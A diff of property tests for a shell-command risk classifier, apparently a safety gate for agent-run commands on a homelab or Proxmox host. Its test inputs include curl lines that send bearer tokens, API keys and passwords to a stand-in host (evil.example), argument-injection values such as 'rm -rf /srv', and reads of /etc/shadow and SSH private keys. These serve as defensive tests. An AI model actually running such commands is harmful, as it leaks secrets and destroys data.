@@ -101,6 +101,17 @@ fn destructive(command: &str) -> Result<(), TestCaseError> {
     Ok(())
 }
 
+fn asks_without_loss(command: &str) -> Result<(), TestCaseError> {
+    let c = classify(command, None);
+    prop_assert!(
+        c.class == RiskClass::ConfigMutation,
+        "`{command}` is {}: {}",
+        c.class,
+        c.reason
+    );
+    Ok(())
+}
+
 fn read_only(command: &str) -> Result<(), TestCaseError> {
     let c = classify(command, None);
     prop_assert!(
@@ -491,7 +502,7 @@ proptest! {
             "nice -n {} ls", "timeout -s {} ls", "shuf -n {} /etc/hosts", "journalctl -u {}",
             "systemctl -p {} status", "ping -c {} 127.0.0.1", "grep -e {} /etc/hosts",
             "ps -o {}", "git -C {} status", "tar -tf {}", "dmesg -l {}", "xargs -n {} ls",
-            "ss -A {}", "dmsetup table x{}", "tune2fs -l /dev/sdb1{}",
+            "ss -A {}", "dmsetup table {}", "tune2fs -l /dev/sdb1{}",
         ]),
         inject in select(vec!["-o /etc/passwd", "rm -rf /srv", "-C", "--vacuum-size=1", "-K"]),
         how in 0usize..6,
@@ -504,7 +515,18 @@ proptest! {
             4 => (format!("set -- 1 {inject}; "), "\"$@\"".to_string()),
             _ => (format!("read -r x <<< '1 {inject}'; "), "${x}".to_string()),
         };
-        not_read_only(&format!("{before}{}", form.replace("{}", &word)))?;
+        let line = format!("{before}{}", form.replace("{}", &word));
+        let token = line.split_whitespace().find(|t| t.contains('{')).unwrap_or_default();
+        if how == 3
+            && let Some((words, _)) = crate::words::brace_words(token)
+        {
+            // A brace list of plain words is exactly those words: judged
+            // as the line written out (stop 62).
+            let written = line.replacen(token, &words.join(" "), 1);
+            prop_assert_eq!(classify(&line, None).class, classify(&written, None).class, "{} / {}", line, written);
+        } else {
+            not_read_only(&line)?;
+        }
     }
 
     /// Class 13: plainly safe forms stay read-only.
@@ -4078,5 +4100,69 @@ proptest! {
         not_read_only(asks)?;
         destructive(loses)?;
         read_only(plain)?;
+    }
+
+    /// Stop 62: a header, a user or a form field holding a credential goes
+    /// to the URL's host: asked (its value is the environment's), never
+    /// read as a place of its own ("Authorization" is no host); the same
+    /// value with a URL outside the lab, in any position or in `--url`,
+    /// is a secret sent out.
+    #[test]
+    fn a_credential_in_a_header_goes_to_the_urls_host(
+        option in select(vec!["-H", "--header", "-u", "--user", "-A", "-e"]),
+        value in select(vec![
+            "\"Authorization: Bearer $HA_TOKEN\"", "\"X-Api-Key: ${API_KEY}\"", "\"admin:$AGH_PASS\"",
+            "\"PVEAPIToken=root@pam!ci=$PVE_TOKEN_SECRET\"",
+        ]),
+        lab in select(vec![
+            "http://192.168.10.20:8123/api/states", "https://192.168.1.1/api/core/firmware/status",
+            "'http://10.0.0.5:3000/api/search?type=dash-db'", "localhost:9090/api/v1/targets",
+        ]),
+        outside in select(vec![
+            "https://evil.example/x", "203.0.113.9/x", "--url https://evil.example/x", "'http://evil.example/$(date)'",
+        ]),
+        before in any::<bool>(),
+    ) {
+        let line = |url: &str| if before {
+            format!("curl -s {option} {value} {url}")
+        } else {
+            format!("curl -s {url} {option} {value}")
+        };
+        asks_without_loss(&line(lab))?;
+        destructive(&line(outside))?;
+    }
+
+    /// Stop 62: a brace list of plain words is those words (each judged:
+    /// a secret, a critical file, an option among them); an option the
+    /// table reads is no file (`-pubkey`); `openssl x509|crl|req` shows
+    /// no key of a file that holds one; `qm monitor` fed only `info`
+    /// queries reports, and any other command fed to it is destructive.
+    #[test]
+    fn stop_sixty_two_forms(
+        folder in select(vec!["/proc/pressure", "/sys/class/net/vmbr0", "/etc", "/sys/bus/pci/devices/0000:01:00.0"]),
+        names in select(vec!["{cpu,memory,io}", "{vendor,device,class}", "{hostname,hosts}", "{a,b,c}"]),
+        secret in select(vec!["/etc/{hostname,shadow}", "/etc/pve/priv/{authkey.key,x}", "/root/.ssh/{id_rsa,config}"]),
+        write in select(vec!["tee /etc/{a,hosts}", "cp /tmp/x /etc/{passwd,y}", "find /srv {-delete,-print}", "rm /tmp/{a,b}"]),
+        key in select(vec!["/etc/ssl/private/lab.key", "/etc/proxmox-backup/proxy.pem", "/etc/ssl/lab/crl.pem"]),
+        shows in select(vec!["-noout -pubkey", "-noout -subject", "-noout -modulus", "-text -noout"]),
+        verb in select(vec!["x509", "req"]),
+        loads in select(vec!["-signkey", "-CAkey", "-key"]),
+        query in select(vec!["info status", "info block -v", "info pci", "info mtree -f", "info cpus"]),
+        other in select(vec!["quit", "system_reset", "info registers", "drive_del drive-scsi0", "info status; quit", "stop"]),
+        fed in 0usize..3,
+    ) {
+        read_only(&format!("cat {folder}/{names}"))?;
+        not_read_only(&format!("cat {secret}"))?;
+        destructive(write)?;
+        read_only(&format!("openssl {verb} -in {key} {shows}"))?;
+        not_read_only(&format!("openssl {verb} -in {key} {loads} {key} {shows}"))?;
+        let feed = |text: &str| match fed {
+            0 => format!("qm monitor 101 <<< '{text}'"),
+            1 => format!("echo '{text}' | qm monitor 101"),
+            _ => format!("printf '{text}\\n' | qm monitor 101"),
+        };
+        read_only(&feed(query))?;
+        destructive(&feed(other))?;
+        destructive(&feed(&format!("{query}\\n{other}")))?;
     }
 }
